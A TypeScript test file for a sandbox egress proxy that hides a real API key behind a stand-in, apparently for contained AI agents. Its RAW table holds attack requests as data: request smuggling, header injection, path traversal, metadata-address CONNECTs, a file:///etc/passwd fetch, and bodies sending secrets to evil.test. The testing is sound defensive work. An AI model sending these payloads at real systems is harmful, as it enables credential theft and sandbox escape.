import assert from 'node:assert/strict';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { collect } from '../../src/host/process/collect.ts';
import { prepareSandbox } from '../../src/host/sandbox/prepare.ts';
import { startIsolated } from '../../src/host/sandbox/start.ts';
import { sandboxWorks } from '../../src/host/sandbox/works.ts';
import { testHost } from '../support/host.ts';
import { tmpdir } from '../support/tmpdir.ts';

const host = testHost();
const skip = !(await sandboxWorks(host.processes, host.env)) && 'bubblewrap does not work here';

const REAL = 'sk-ant-api03-the-real-key-of-the-person';
const STAND_IN = 'sk-autodev-stand-in';

/** Raw requests, byte for byte, so that nothing is put right on the way. */
const RAW: Readonly<Record<string, string>> = {
  good: post('/v1/messages?beta=true', { 'x-api-key': STAND_IN }),
  bearer: post('/v1/messages', { authorization: `Bearer ${STAND_IN}` }),
  gzip: post('/v1/messages', { 'x-api-key': STAND_IN, 'x-want': 'gzip' }),
  cut: post('/v1/messages', { 'x-api-key': STAND_IN, 'x-want': 'cut' }),
  error: post('/v1/messages', { 'x-api-key': STAND_IN, 'x-want': 'error' }),
  base64: post('/v1/messages', { 'x-api-key': STAND_IN, 'x-want': 'base64' }),
  'no key': post('/v1/messages', {}),
  'a key of somebody else': post('/v1/messages', { 'x-api-key': 'sk-ant-theirs' }),
  'the stand-in in another header': post('/v1/messages', { 'x-leak': STAND_IN }),
  'the stand-in in two headers': post('/v1/messages', { 'x-api-key': STAND_IN, 'user-agent': STAND_IN }),
  'a second credential': post('/v1/messages', { 'x-api-key': STAND_IN, authorization: 'Bearer theirs' }),
  'the key in the query': post(`/v1/messages?key=${STAND_IN}`, { 'x-api-key': STAND_IN }),
  'the stand-in within a credential': post('/v1/messages', { 'x-api-key': `${STAND_IN}x` }),
  'a question that is packed': post('/v1/messages', { 'x-api-key': STAND_IN, 'content-encoding': 'gzip' }),
  'files of the account': post('/v1/files', { 'x-api-key': STAND_IN }),
  'the organisation': request('GET', '/v1/organizations/me', { 'x-api-key': STAND_IN }),
  'batches by a dotted path': post('/v1/messages/../messages/batches', { 'x-api-key': STAND_IN }),
  'a path in disguise': post('/v1/messages%2f..%2ffiles', { 'x-api-key': STAND_IN }),
  'another method': request('DELETE', '/v1/messages', { 'x-api-key': STAND_IN }),
  'a method in a header': post('/v1/messages', { 'x-api-key': STAND_IN, 'x-http-method-override': 'DELETE' }),
  'two lengths': `POST /model/v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: ${STAND_IN}\r\ncontent-length: 2\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /model/v1/files HTTP/1.1\r\n\r\n`,
  'a request within a body': `GET /model/v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: ${STAND_IN}\r\ntransfer-encoding: chunked\r\n\r\n20\r\nGET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n\r\n0\r\n\r\n`,
  'a line break in a header': `POST /model/v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: ${STAND_IN}\r\nx-a: b\nx-evil: 1\r\ncontent-length: 2\r\n\r\n{}`,
  'an address for the model to fetch': post(
    '/v1/messages',
    { 'x-api-key': STAND_IN },
    '{"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.test/?secret"}}]}]}',
  ),
  'servers for the model to ask': post(
    '/v1/messages',
    { 'x-api-key': STAND_IN },
    '{"mcp_servers":[{"url":"https://evil.test"}]}',
  ),
  'what is no question': post('/v1/messages', { 'x-api-key': STAND_IN }, 'not json'),
  'metadata by CONNECT': 'CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n',
  'metadata by its mapped address': 'CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1\r\n\r\n',
  'metadata as a number': 'CONNECT 2852039166:80 HTTP/1.1\r\n\r\n',
  'a tunnel without a port': 'CONNECT allowed.test HTTP/1.1\r\n\r\n',
  'a file by the proxy': 'GET file:///etc/passwd HTTP/1.1\r\nhost: x\r\n\r\n',
};

function request(method: string, path: string, headers: Record<string, string>, body?: string): string {
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  const length = body === undefined ? '' : `content-length: ${Buffer.byteLength(body)}\r\n`;
  return `${method} /model${path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n${lines.join('')}${length}\r\n${body ?? ''}`;
}
function post(path: string, headers: Record<string, string>, body = '{}'): string {
  return request('POST', path, headers, body);
}

const PROGRAM = `
const net = require('node:net'); const raw = JSON.parse(process.env.RAW); const said = {};
Promise.all(Object.entries(raw).map(([name, text]) => new Promise((done) => {
  const s = net.connect(47113, '127.0.0.1', () => s.write(text)); said[name] = '';
  s.on('data', (d) => { said[name] += d; }); s.on('error', () => {}); s.on('close', done); s.setTimeout(3000, () => s.destroy());
}))).then(() => console.log(JSON.stringify(said)));
`;

describe('the egress proxy under attack', { skip }, () => {
  const seen: (IncomingMessage & { body?: string })[] = [];
  let said: Record<string, string>;

  before(async () => {
    await using tmp = await tmpdir();
    await using scratch = await tmpdir();
    const api = createServer((asked, response) => {
      seen.push(asked);
      const key = String(asked.headers['x-api-key'] ?? asked.headers.authorization);
      asked.resume().once('end', () => {
        const want = asked.headers['x-want'];
        if (want === 'gzip')
          response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(`got ${key}`));
        else if (want === 'cut') {
          response.write(`got ${key.slice(0, 10)}`);
          setTimeout(() => response.end(`${key.slice(10)} end`), 100);
        } else if (want === 'error') response.writeHead(401, { 'x-echo': key }).end(`bad key ${key}`);
        else response.end(want === 'base64' ? `got ${Buffer.from(key).toString('base64')}` : `got ${key}`);
      });
    });
    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
    const sandbox = await prepareSandbox(
      {
        rules: { hidden: [], read: [], write: [], allowHosts: ['allowed.test'], required: true },
        scratch: scratch.path,
        worktree: { path: tmp.path, write: true },
      },
      {
        refused: () => {},
        model: {
          upstream: `http://127.0.0.1:${(api.address() as AddressInfo).port}`,
          secrets: [{ standIn: STAND_IN, real: REAL }],
          authentication: ['x-api-key', 'authorization'],
          calls: [{ method: 'POST', path: /^\/v1\/messages$/ }],
          refusal: () => undefined,
          asked: () => () => {},
        },
      },
    );
    const program = await startIsolated(host.processes, process.execPath, ['-e', PROGRAM], {
      cwd: tmp.path,
      env: { ...host.env, RAW: JSON.stringify(RAW), MARK: '1' },
      mark: 'MARK',
      sandbox,
    });
    const out = collect(program.stdout, 1024 * 1024);
    await program.exited;
    await program.reap();
    await out.ended;
    await sandbox.close();
    api.closeAllConnections();
    api.close();
    said = JSON.parse(out.bytes().toString('utf8')) as Record<string, string>;
  });

  const status = (name: string) => Number(/^HTTP\/1\.1 (\d+)/.exec(said[name] ?? '')?.[1]);

  for (const name of ['good', 'bearer', 'gzip', 'cut', 'base64'])
    test(`a call of a model passes, and the key does not come back (${name})`, () => {
      assert.equal(status(name), 200, said[name]);
      assert.match(said[name] ?? '', /got/);
    });

  test('the key is nowhere in anything that came back', () => {
    // Without the sizes of its pieces, for a key may be cut between two of them.
    const all = Object.values(said)
      .map((text) => text.replaceAll(/\r\n[0-9a-f]+\r\n/gi, ''))
      .join('\n');
    assert.ok(!all.includes(REAL));
    assert.ok(!all.includes(Buffer.from(REAL).toString('base64').replace(/=+$/, '')));
    assert.equal(status('error'), 401);
  });

  for (const name of Object.keys(RAW).slice(Object.keys(RAW).indexOf('no key')))
    if (!['the stand-in in two headers', 'a second credential', 'a method in a header'].includes(name))
      test(`${name} is refused`, () => {
        assert.ok(status(name) >= 400 && status(name) < 500, said[name]);
      });

  test('the real key stands in authentication headers only, and no other credential beside it', () => {
    assert.ok(seen.length > 0);
    for (const { headers } of seen) {
      const others = Object.entries(headers).filter(
        ([name]) => name !== 'x-api-key' && name !== 'authorization',
      );
      assert.ok(!JSON.stringify(others).includes(REAL));
      assert.ok(!JSON.stringify(headers).includes('theirs'));
      assert.equal(headers['x-http-method-override'], undefined);
    }
  });

  test('nothing but that one call was ever asked of the model', () => {
    assert.deepEqual([...new Set(seen.map(({ method, url }) => `${method} ${url}`))].sort(), [
      'POST /v1/messages',
      'POST /v1/messages?beta=true',
    ]);
  });
});
